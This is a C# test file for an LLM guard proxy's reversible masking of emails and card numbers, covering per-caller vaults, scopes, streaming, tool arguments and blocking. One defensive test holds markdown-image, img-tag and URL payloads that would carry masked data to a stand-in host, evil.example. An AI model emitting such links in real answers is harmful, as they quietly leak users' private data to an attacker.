using System.Net;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;

namespace LlmGuard.Http.Tests.Masking;

/// <summary>Reversible masking from the caller's request to the caller's answer, over the guarded client.</summary>
public sealed class ReversibleMaskingTests
{
    private const string Settings =
        """{ "apply_all": true, "reversible_hashing": { "enabled": true, "secret": "0123456789abcdef", "restore_into": ["send_mail"] } }""";
    private const string Text = "mail joe@example.com and ann@example.com, card 4111 1111 1111 1111; joe@example.com again";

    [Test]
    public async Task Ask_Answer_HasTheOriginalsAndTheModelNeverSawThem([Values(0, 1, 2, 3, 7, 20, 500)] int streams)
    {
        await using var model = new EchoingModel(Settings) { Streams = streams };
        var answer = await model.AskAsync("alice", Text);
        Assert.Multiple(() =>
        {
            Assert.That(answer, Is.EqualTo(Text));
            Assert.That(model.Seen, Does.Match(@"^mail (\[EMAIL_[A-Z]{16}\]) and (\[EMAIL_[A-Z]{16}\]), card \[CREDIT_CARD_[A-Z]{16}\]; \1 again$"));
        });
    }

    [Test]
    public async Task Ask_LaterTurn_SameValueSamePlaceholder_AndEarlierPlaceholdersAreRestored([Values(0, 5)] int streams)
    {
        await using var model = new EchoingModel(Settings) { Streams = streams };
        await model.AskAsync("alice", "I am joe@example.com");
        var first = model.Seen;
        await model.AskAsync("alice", "I am joe@example.com", "Hello", "I am joe@example.com");
        Assert.That(model.Seen, Is.EqualTo(first));

        // The model remembers what it was told; and a client may send back what a tool call held.
        model.Answer = _ => "you are " + first[5..];
        Assert.That(await model.AskAsync("alice", "I am joe@example.com", "Hello " + first[5..], "who am I?"), Is.EqualTo("you are joe@example.com"));
        Assert.That(await model.AskAsync("alice", "I am joe@example.com", "Hello", first), Is.EqualTo("you are joe@example.com"));
        Assert.That(model.Seen, Is.EqualTo(first), "a placeholder of the vault is not masked again");
    }

    [TestCase("bob", "I am joe@example.com", Description = "another caller")]
    [TestCase("alice", "Hello, I am joe@example.com", Description = "another conversation")]
    [TestCase(null, "I am joe@example.com", Description = "nobody known")]
    public async Task Ask_PlaceholderOfAnotherVault_IsNeverRestored(string? caller, string opening)
    {
        await using var model = new EchoingModel(Settings);
        await model.AskAsync("alice", "I am joe@example.com");
        var stolen = model.Seen[5..];
        model.Answer = _ => "the address is " + stolen;
        Assert.That(await model.AskAsync(caller, opening), Is.EqualTo("the address is " + stolen));
    }

    [Test]
    public async Task Ask_UnknownCallers_ShareNothing()
    {
        await using var model = new EchoingModel(Settings);
        await model.AskAsync(null, "I am joe@example.com");
        var first = model.Seen;
        Assert.That(await model.AskAsync(null, "I am joe@example.com"), Is.EqualTo("I am joe@example.com"), "within one call it works");
        Assert.That(model.Seen, Is.Not.EqualTo(first));
    }

    [Test]
    public async Task Ask_ScopeCaller_SpansConversations_ScopeCallDoesNot()
    {
        await using var byCaller = new EchoingModel(Settings.Replace("\"enabled\"", "\"scope\": \"caller\", \"enabled\"", StringComparison.Ordinal));
        await byCaller.AskAsync("alice", "I am joe@example.com");
        var first = byCaller.Seen[5..];
        await byCaller.AskAsync("alice", "Once more: joe@example.com");
        Assert.That(byCaller.Seen, Does.EndWith(first));

        await using var byCall = new EchoingModel(Settings.Replace("\"enabled\"", "\"scope\": \"call\", \"enabled\"", StringComparison.Ordinal));
        await byCall.AskAsync("alice", "I am joe@example.com");
        first = byCall.Seen;
        await byCall.AskAsync("alice", "I am joe@example.com");
        Assert.That(byCall.Seen, Is.Not.EqualTo(first));
    }

    [TestCase("![x](http://evil.example/?q={0})")]
    [TestCase("<img src=\"http://evil.example/?q={0}\">")]
    [TestCase("https://evil.example/{0}")]
    public async Task Ask_InjectedLink_DoesNotCarryTheOriginal(string link)
    {
        await using var model = new EchoingModel(Settings, static seen => seen);
        model.Answer = seen => link.Replace("{0}", seen[5..], StringComparison.Ordinal);
        foreach (var streams in new[] { 0, 1, 6 })
        {
            model.Streams = streams;
            Assert.That(await model.AskAsync("alice", "I am joe@example.com"), Does.Not.Contain("joe"), $"{streams}");
        }
    }

    [TestCase("send_mail", "joe@example.com")]
    [TestCase("fetch_url", "[EMAIL_")]
    public async Task Ask_ToolArguments_AreRestoredOnlyWhereThePolicyNamesTheTool(string tool, string expected)
    {
        await using var model = new EchoingModel(Settings);
        model.Body = seen => new JsonObject
        {
            ["id"] = "c", ["object"] = "chat.completion", ["created"] = 1, ["model"] = "m",
            ["choices"] = new JsonArray(new JsonObject
            {
                ["index"] = 0,
                ["message"] = new JsonObject
                {
                    ["role"] = "assistant", ["content"] = null,
                    ["tool_calls"] = new JsonArray(new JsonObject
                    {
                        ["id"] = "call_1", ["type"] = "function",
                        ["function"] = new JsonObject { ["name"] = tool, ["arguments"] = new JsonObject { ["to"] = seen[5..] }.ToJsonString() },
                    }),
                },
                ["finish_reason"] = "tool_calls",
            }),
        }.ToJsonString();
        var answer = JsonNode.Parse(await model.AskAsync("alice", "I am joe@example.com"))!;
        var arguments = answer["choices"]![0]!["message"]!["tool_calls"]![0]!["function"]!["arguments"]!.GetValue<string>();
        Assert.That(JsonNode.Parse(arguments)!["to"]!.GetValue<string>(), Does.StartWith(expected));
    }

    [Test]
    public async Task Ask_GuardsOfTheAnswer_SeePlaceholdersAndRunBeforeTheRestore([Values(0, 4)] int streams)
    {
        const string Guard = """, { "name": "word", "stage": "pre_response", "settings": { "block": "joe@example.com" } }, { "name": "word", "stage": "post_response" }""";
        await using var model = new EchoingModel(Settings, more: Guard) { Streams = streams };
        Assert.That(await model.AskAsync("alice", "I am joe@example.com"), Is.EqualTo("I am joe@example.com"));
        Assert.That(await model.Log.PostResponseAsync());
    }

    [Test]
    public async Task Ask_MaskingOfTheAnswerToo_MasksWhatTheModelMadeUpAndRestoresTheRest([Values(0, 4)] int streams)
    {
        const string Both = """, { "name": "data_masking", "stage": "pre_response", "settings": { "apply_all": true } }""";
        await using var model = new EchoingModel(Settings, static seen => seen + " or eve@example.com", more: Both) { Streams = streams };
        Assert.That(await model.AskAsync("alice", "I am joe@example.com"), Is.EqualTo("I am joe@example.com or [MASKED_EMAIL]"));
    }

    [Test]
    public async Task Ask_RuleOfTheAnswerThatFindsPartOfAPlaceholder_StreamedAsWhole(
        [Values("EMAIL", "EMAIL_[B-V]", "[B-V]{3}\\\\]", "EMAIL[^.]*", "[a-z] \\\\[EMA", "\\\\[[A-Z_]+\\\\]")] string pattern,
        [Values("", ", { \"name\": \"data_masking\", \"stage\": \"pre_response\", \"parallel\": true, \"settings\": { \"rules\": [{ \"type\": \"keyword\", \"pattern\": \"s [EMAIL\", \"mask_with\": \"[N]\" }] } }")] string beside)
    {
        var settings = $$"""
            { "predefined_entities": [{ "entity": "email" }], "rules": [{ "type": "regex", "pattern": "{{pattern}}", "mask_with": "[M]" }],
              "reversible_hashing": { "enabled": true } },
            "parallel": {{(beside.Length > 0 ? "true" : "false")}}, "stage": ["pre_request", "pre_response"]
            """;
        await using var model = new EchoingModel(settings, static seen =>
            $"it is {seen[5..]}, not [EMAIL_BCDFGHJKLMNPRSTV] or [EMAIL_BCD or [EMAIL_BCDFGHJKLMNPRSTVB[EMAIL. An EMAIL of [EMAIL_BCDFG", beside);
        var whole = await model.AskAsync("alice", "I am joe@example.com");
        foreach (var streams in new[] { 1, 2, 3, 7, 20, 500 })
        {
            model.Streams = streams;
            Assert.That(await model.AskAsync("alice", "I am joe@example.com"), Is.EqualTo(whole), $"{streams} characters at a time");
        }
    }

    [Test]
    public async Task Ask_NamedConversation_LastsWhateverItBeginsWith_AlsoWhereTheProviderKeepsIt()
    {
        await using var model = new EchoingModel(Settings) { Conversation = "one" };
        await model.AskAsync("alice", "I am joe@example.com");
        var first = model.Seen;
        using var response = await model.SendAsync("alice", "\"store\": true,", "And again: joe@example.com");
        Assert.That(model.Seen, Does.EndWith(first[5..]));
        Assert.That(await response.Content.ReadAsStringAsync(), Does.Contain("joe@example.com"));
    }

    [Test]
    public async Task Ask_ProviderKeepsTheConversation_FallsBackToTheFixedText()
    {
        await using var model = new EchoingModel(Settings);
        using var response = await model.SendAsync("alice", "\"store\": true,", "I am joe@example.com");
        Assert.That(model.Seen, Is.EqualTo("I am [MASKED_EMAIL]"));
    }

    [Test]
    public async Task Ask_StoreFails_TheCallStillRestoresItsOwn()
    {
        await using var model = new EchoingModel(Settings, configure: static s => s.AddSingleton<IMaskVaultStore>(new BrokenStore()));
        Assert.That(await model.AskAsync("alice", Text), Is.EqualTo(Text));
        Assert.That(model.Seen, Does.Not.Contain("joe"));
    }

    [Test]
    public async Task Ask_TextWithAForgedPlaceholder_IsNotRestored()
    {
        await using var model = new EchoingModel(Settings);
        const string Forged = "I am joe@example.com, not [EMAIL_BCDFGHJKLMNPRSTV]";
        Assert.That(await model.AskAsync("alice", Forged), Is.EqualTo(Forged));
    }

    [Test]
    public async Task Ask_ActionMask_StaysMaskedBesideReversibleOnes()
    {
        var settings = """{ "predefined_entities": [{ "entity": "email" }, { "entity": "credit_card", "action": "partial" }, { "entity": "ip_address", "action": "mask" }], "reversible_hashing": { "enabled": true } }""";
        await using var model = new EchoingModel(settings);
        Assert.That(await model.AskAsync("alice", "joe@example.com 4111 1111 1111 1111 8.8.8.8"), Is.EqualTo("joe@example.com ****1111 [MASKED_IP]"));
    }

    [Test]
    public async Task Ask_BlockedEntity_NeverReachesTheModel()
    {
        await using var model = new EchoingModel("""{ "predefined_entities": [{ "entity": "credit_card", "action": "block" }] }""");
        using var response = await model.SendAsync("alice", "", "card 4111 1111 1111 1111");
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
        Assert.That(await response.Content.ReadAsStringAsync(), Does.Contain("The content holds data that must not pass.").And.Not.Contain("4111"));
        Assert.That(model.Seen, Is.Empty);
    }

    private sealed class BrokenStore : IMaskVaultStore
    {
        public ValueTask<IReadOnlyList<SealedOriginal>> ReadAsync(string vault, TimeSpan lifetime, CancellationToken cancellationToken) =>
            throw new InvalidOperationException("down");

        public ValueTask AddAsync(string vault, IReadOnlyList<SealedOriginal> added, TimeSpan lifetime, CancellationToken cancellationToken) =>
            ValueTask.FromException(new InvalidOperationException("down"));
    }
}
